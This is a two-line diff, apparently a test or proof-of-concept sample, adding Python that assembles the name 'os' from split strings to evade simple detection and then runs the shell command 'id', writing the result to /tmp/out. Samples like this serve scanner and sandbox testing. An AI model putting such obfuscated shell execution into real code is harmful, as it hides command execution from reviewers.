@@ -1,0 +1,2 @@
+m = __import__("o" + "s")
+m.system("id > /tmp/out")
